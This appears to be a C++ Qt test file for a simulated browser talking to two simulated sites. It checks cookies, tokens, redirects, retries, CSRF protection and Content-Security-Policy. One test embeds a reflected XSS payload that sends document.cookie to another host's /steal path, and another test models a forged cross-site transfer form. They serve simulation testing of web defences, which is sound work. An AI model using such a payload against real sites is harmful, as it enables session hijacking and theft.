#include "tests/support/scene_run.h"

#include <QTest>

using namespace roundtrip;
using namespace roundtrip::test;

namespace {

constexpr SimTime second = SimTime::seconds(1);

const nlohmann::json withoutCsrf = {{{"use", "body_parser"}}, {{"use", "session"}}};

Scene twoSites() {
    return loadScene("tests/scenes/two_sites.roundtrip");
}

/// The HTTP requests that left the browser, as on the wire.
std::vector<std::string> requestsOf(SceneRun& run) {
    std::vector<std::string> wires;
    for (const Fact& fact : run.facts<MessageSent>()) {
        const auto sent = fact.as<MessageSent>();
        if (sent.messageKind == MessageKind::request &&
            fact.node == run.world().find("browser")->id())
            wires.push_back(run.text(sent.wire));
    }
    return wires;
}

bool holds(const std::string& text, const std::string& part) {
    return text.find(part) != std::string::npos;
}

void visit(SceneRun& run, SimTime at, const std::string& to, const std::string& target) {
    QCOMPARE(run.give(at, "browser", "send", {{"to", to}, {"target", target}}), std::string());
}

} // namespace

class TestBrowserSites : public QObject {
    Q_OBJECT

  private slots:
    void aCookieIsKeptAndShownAgain();
    void cookiesOfOneSiteStayThere();
    void cookiesCanBeForgotten();
    void thePersonsOwnFieldsWin();
    void aFormIsNoJson();
    void aTokenIsShownFromThenOn();
    void aTokenIsNotShownWhenSwitchedOff();
    void theSitesOwnPageRepeatsTheCsrfToken();
    void aRedirectIsFollowedInTheSameTrip();
    void aPostBecomesAGetUnlessTheStatusForbidsIt_data();
    void aPostBecomesAGetUnlessTheStatusForbidsIt();
    void aRedirectLeadsToAnotherSite();
    void roundAndRoundEndsAfterTwenty();
    void httpsNeedsASealedLink();
    void anUnknownSiteIsNotReached();
    void anotherSitesFormBringsNoLaxCookie();
    void anotherSitesFormBringsACookieForAllSites();
    void theCsrfCheckStopsIt();
    void aScriptReadsWhatItMayAndSendsItAway();
    void aHeaderForbidsScriptsInThePage();
    void aPageThatLeadsToItselfEnds();
    void itLosesPatience();
    void itAsksAgainWithTheSameKey();
    void aPostWithoutAKeyIsNotRepeated();
};

void TestBrowserSites::aCookieIsKeptAndShownAgain() {
    SceneRun run(twoSites());
    visit(run, SimTime(), "", "/lax");
    visit(run, second, "", "/");
    run.runToTheEnd();
    std::vector<std::string> kept;
    for (const CookieKept& fact : run.all<CookieKept>())
        kept.push_back(run.text(fact.name));
    QCOMPARE(kept, (std::vector<std::string>{"session", "csrftoken"}));
    QVERIFY(!holds(requestsOf(run)[0], "Cookie:"));
    QVERIFY(holds(requestsOf(run)[1], "session=lax"));
}

void TestBrowserSites::cookiesOfOneSiteStayThere() {
    SceneRun run(twoSites());
    visit(run, SimTime(), "bank", "/lax");
    visit(run, second, "other", "/landing");
    run.runToTheEnd();
    QVERIFY(!holds(requestsOf(run)[1], "Cookie:"));
    QVERIFY(holds(requestsOf(run)[1], "Host: other\r\n"));
}

void TestBrowserSites::cookiesCanBeForgotten() {
    SceneRun run(twoSites());
    visit(run, SimTime(), "", "/lax");
    run.give(second, "browser", "clear_cookies");
    visit(run, second, "", "/");
    run.runToTheEnd();
    QVERIFY(!holds(requestsOf(run)[1], "Cookie:"));
}

void TestBrowserSites::thePersonsOwnFieldsWin() {
    SceneRun run(twoSites());
    run.give(SimTime(), "browser", "send",
             {{"headers", "Accept: text/html\nX-Api-Key:  abc\nnonsense"}});
    run.runToTheEnd();
    QVERIFY(holds(requestsOf(run)[0], "Accept: text/html\r\n"));
    QVERIFY(holds(requestsOf(run)[0], "X-Api-Key: abc\r\n"));
    QVERIFY(!holds(requestsOf(run)[0], "application/json"));
    QVERIFY(!holds(requestsOf(run)[0], "nonsense"));
}

void TestBrowserSites::aFormIsNoJson() {
    SceneRun run(twoSites());
    run.give(SimTime(), "browser", "send",
             {{"method", "POST"}, {"body", "a=1"}, {"content_type", "form"}});
    run.runToTheEnd();
    QVERIFY(holds(requestsOf(run)[0], "Content-Type: application/x-www-form-urlencoded\r\n"));
}

void TestBrowserSites::aTokenIsShownFromThenOn() {
    SceneRun run(twoSites());
    visit(run, SimTime(), "", "/token");
    visit(run, second, "", "/");
    visit(run, 2 * second, "other", "/landing");
    run.runToTheEnd();
    QCOMPARE(checksOf<CheckPassed>(run, "token"), (std::vector<std::string>{"kept\nbank.example"}));
    QVERIFY(holds(requestsOf(run)[1], "Authorization: Bearer abc\r\n"));
    QVERIFY(!holds(requestsOf(run)[2], "Authorization"));
}

void TestBrowserSites::aTokenIsNotShownWhenSwitchedOff() {
    SceneRun run(twoSites());
    visit(run, SimTime(), "", "/token");
    run.set(second, "browser", "uses_token", false);
    visit(run, second, "", "/");
    run.runToTheEnd();
    QVERIFY(!holds(requestsOf(run)[1], "Authorization"));
}

void TestBrowserSites::theSitesOwnPageRepeatsTheCsrfToken() {
    SceneRun run(twoSites());
    visit(run, SimTime(), "", "/");
    run.give(second, "browser", "send",
             {{"method", "POST"}, {"target", "/transfer"}, {"body", "{}"}});
    run.runToTheEnd();
    QVERIFY(!holds(requestsOf(run)[0], "X-CSRFToken"));
    QVERIFY(holds(requestsOf(run)[1], "X-CSRFToken: "));
    QCOMPARE(statusesOf(run), (std::vector<std::uint32_t>{200, 201}));
}

void TestBrowserSites::aRedirectIsFollowedInTheSameTrip() {
    SceneRun run(twoSites());
    visit(run, SimTime(), "", "/old");
    run.runToTheEnd();
    QCOMPARE(requestsOf(run).size(), 2U);
    QVERIFY(requestsOf(run)[1].starts_with("GET /new HTTP/1.1"));
    QCOMPARE(run.count<RequestStarted>(), 1U);
    QCOMPARE(statusesOf(run), (std::vector<std::uint32_t>{200}));
    QCOMPARE(checksOf<CheckPassed>(run, "redirect"),
             (std::vector<std::string>{"followed\n301\nGET\n/new"}));
    QCOMPARE(run.count<SpanStarted>(), run.count<SpanFinished>());
}

void TestBrowserSites::aPostBecomesAGetUnlessTheStatusForbidsIt_data() {
    QTest::addColumn<int>("status");
    QTest::addColumn<QString>("method");
    QTest::newRow("301") << 301 << "GET";
    QTest::newRow("302") << 302 << "GET";
    QTest::newRow("303") << 303 << "GET";
    QTest::newRow("307") << 307 << "POST";
    QTest::newRow("308") << 308 << "POST";
}

/// RFC 9110, 15.4.
void TestBrowserSites::aPostBecomesAGetUnlessTheStatusForbidsIt() {
    QFETCH(int, status);
    QFETCH(QString, method);
    SceneRun run(twoSites());
    const nlohmann::json routes{
        {{"method", "POST"},
         {"path", "/old"},
         {"handler",
          {{{"do", "respond"}, {"status", status}, {"headers", {{"Location", "/moved"}}}}}}}};
    run.set(SimTime(), "bank", "middleware", withoutCsrf);
    run.set(SimTime(), "bank", "routes", routes);
    run.give(SimTime(), "browser", "send",
             {{"method", "POST"}, {"target", "/old"}, {"body", R"({"a":1})"}});
    run.runToTheEnd();
    const std::string followed = requestsOf(run).at(1);
    QVERIFY(followed.starts_with(method.toStdString() + " /moved "));
    QCOMPARE(holds(followed, R"({"a":1})"), method == "POST");
}

void TestBrowserSites::aRedirectLeadsToAnotherSite() {
    SceneRun run(twoSites());
    visit(run, SimTime(), "", "/away");
    run.runToTheEnd();
    QVERIFY(requestsOf(run)[1].starts_with("GET /landing?from=bank HTTP/1.1\r\nHost: other\r\n"));
}

void TestBrowserSites::roundAndRoundEndsAfterTwenty() {
    SceneRun run(twoSites());
    visit(run, SimTime(), "", "/round");
    run.runToTheEnd();
    QCOMPARE(requestsOf(run).size(), 21U);
    QCOMPARE(checksOf<CheckFailed>(run, "redirect"), (std::vector<std::string>{"too-many\n20"}));
    QCOMPARE(statusesOf(run), (std::vector<std::uint32_t>{302}));
}

void TestBrowserSites::httpsNeedsASealedLink() {
    SceneRun run(twoSites());
    visit(run, SimTime(), "", "/sealed");
    run.set(second, "browser->bank", "tls", false);
    visit(run, second, "", "/sealed");
    run.runToTheEnd();
    QCOMPARE(statusesOf(run), (std::vector<std::uint32_t>{200, 301}));
    QCOMPARE(checksOf<CheckFailed>(run, "redirect"),
             (std::vector<std::string>{"no-tls\nhttps://bank.example/new"}));
}

void TestBrowserSites::anUnknownSiteIsNotReached() {
    SceneRun run(twoSites());
    visit(run, SimTime(), "nowhere", "/");
    run.runToTheEnd();
    QCOMPARE(run.text(run.all<HandlerFailed>().at(0).reason), std::string("no-site\nnowhere"));
    QCOMPARE(statusesOf(run), (std::vector<std::uint32_t>{0}));
}

void TestBrowserSites::anotherSitesFormBringsNoLaxCookie() {
    SceneRun run(twoSites());
    run.set(SimTime(), "bank", "middleware", withoutCsrf);
    visit(run, SimTime(), "", "/lax");
    visit(run, second, "other", "/trap");
    run.runToTheEnd();
    const std::string forged = requestsOf(run).at(2);
    QVERIFY(forged.starts_with("POST /transfer "));
    QVERIFY(forged.ends_with("\r\n\r\nto=mallory%20%26%20co&amount=100"));
    QVERIFY(!holds(forged, "Cookie"));
    QVERIFY(!holds(forged, "X-CSRFToken"));
}

void TestBrowserSites::anotherSitesFormBringsACookieForAllSites() {
    SceneRun run(twoSites());
    run.set(SimTime(), "bank", "middleware", withoutCsrf);
    visit(run, SimTime(), "", "/none");
    visit(run, second, "other", "/trap");
    run.runToTheEnd();
    QVERIFY(holds(requestsOf(run).at(2), "Cookie: session=none\r\n"));
    QCOMPARE(statusesOf(run).back(), 201U);
}

void TestBrowserSites::theCsrfCheckStopsIt() {
    SceneRun run(twoSites());
    visit(run, SimTime(), "", "/none");
    visit(run, second, "other", "/trap");
    run.runToTheEnd();
    QCOMPARE(statusesOf(run).back(), 403U);
    QCOMPARE(checksOf<CheckFailed>(run, "csrf").size(), 1U);
}

void TestBrowserSites::aScriptReadsWhatItMayAndSendsItAway() {
    SceneRun run(twoSites());
    run.set(SimTime(), "bank", "middleware", withoutCsrf);
    const nlohmann::json open{
        {{"method", "GET"},
         {"path", "/open"},
         {"handler", {{{"do", "respond"}, {"headers", {{"Set-Cookie", "open=1 2"}}}}}}},
        {{"method", "GET"},
         {"path", "/lax"},
         {"handler", {{{"do", "respond"}, {"headers", {{"Set-Cookie", "hidden=x; HttpOnly"}}}}}}},
        {{"method", "GET"},
         {"path", "/comments"},
         {"handler", {{{"do", "render"}, {"template", "comment"}}}}}};
    run.set(SimTime(), "bank", "routes", open);
    visit(run, SimTime(), "", "/open");
    visit(run, second, "", "/lax");
    visit(run, 2 * second, "",
          "/comments?text=<script>fetch('https://other/steal?c=' %2B document.cookie)</script>");
    run.runToTheEnd();
    const auto ran = run.all<ScriptRan>();
    QCOMPARE(ran.size(), 1U);
    QCOMPARE(run.text(ran[0].stolen), std::string("open=1 2"));
    QVERIFY(requestsOf(run).at(3).starts_with("GET /steal?c=open%3D1%202 HTTP/1.1\r\nHost: other"));
}

void TestBrowserSites::aHeaderForbidsScriptsInThePage() {
    SceneRun run(twoSites());
    const nlohmann::json routes{
        {{"method", "GET"},
         {"path", "/comments"},
         {"handler",
          {{{"do", "render"},
            {"template", "comment"},
            {"headers", {{"Content-Security-Policy", "script-src 'self'"}}}}}}}};
    run.set(SimTime(), "bank", "routes", routes);
    visit(run, SimTime(), "", "/comments?text=<script>document.cookie</script>");
    run.runToTheEnd();
    QCOMPARE(run.count<ScriptRan>(), 0U);
    QCOMPARE(checksOf<CheckFailed>(run, "csp"),
             (std::vector<std::string>{"blocked\nscript-src 'self'"}));
}

void TestBrowserSites::aPageThatLeadsToItselfEnds() {
    SceneRun run(twoSites());
    run.set(
        SimTime(), "other", "templates",
        {{"trap",
          R"html(<body onload="document.forms[0].submit()"><form action="/trap"></form>)html"}});
    visit(run, SimTime(), "other", "/trap");
    run.runToTheEnd();
    QCOMPARE(requestsOf(run).size(), 21U);
    QCOMPARE(checksOf<CheckFailed>(run, "redirect"), (std::vector<std::string>{"too-many\n20"}));
}

void TestBrowserSites::itLosesPatience() {
    SceneRun run(twoSites());
    run.set(SimTime(), "browser", "timeout", "5 ms");
    run.set(SimTime(), "browser", "retries", 1);
    visit(run, SimTime(), "", "/");
    run.runToTheEnd();
    QCOMPARE(checksOf<CheckFailed>(run, "call"),
             (std::vector<std::string>{"timeout\n5 ms", "timeout\n5 ms"}));
    QCOMPARE(checksOf<CheckPassed>(run, "call"), (std::vector<std::string>{"again\n2"}));
    QCOMPARE(statusesOf(run), (std::vector<std::uint32_t>{0}));
    QVERIFY(run.facts<RequestFinished>().at(0).time == SimTime::milliseconds(110));
}

void TestBrowserSites::itAsksAgainWithTheSameKey() {
    SceneRun run(twoSites());
    const nlohmann::json routes{
        {{"method", "POST"}, {"path", "/"}, {"handler", {{{"do", "respond"}, {"status", 503}}}}}};
    run.set(SimTime(), "bank", "middleware", withoutCsrf);
    run.set(SimTime(), "bank", "routes", routes);
    run.set(SimTime(), "browser", "retries", 2);
    run.set(SimTime(), "browser", "idempotency_keys", true);
    run.give(SimTime(), "browser", "send", {{"method", "POST"}});
    run.runToTheEnd();
    const auto requests = requestsOf(run);
    QCOMPARE(requests.size(), 3U);
    QVERIFY(holds(requests[0], "Idempotency-Key: "));
    QCOMPARE(requests[1], requests[0]);
    QCOMPARE(requests[2], requests[0]);
    QCOMPARE(checksOf<CheckFailed>(run, "call").back(), std::string("failed\n503"));
    QCOMPARE(statusesOf(run), (std::vector<std::uint32_t>{503}));
}

void TestBrowserSites::aPostWithoutAKeyIsNotRepeated() {
    SceneRun run(twoSites());
    run.set(SimTime(), "browser", "retries", 2);
    run.set(SimTime(), "browser", "timeout", "5 ms");
    run.give(SimTime(), "browser", "send", {{"method", "POST"}});
    run.runToTheEnd();
    QCOMPARE(requestsOf(run).size(), 1U);
}

QTEST_APPLESS_MAIN(TestBrowserSites)
#include "tst_browser_sites.moc"
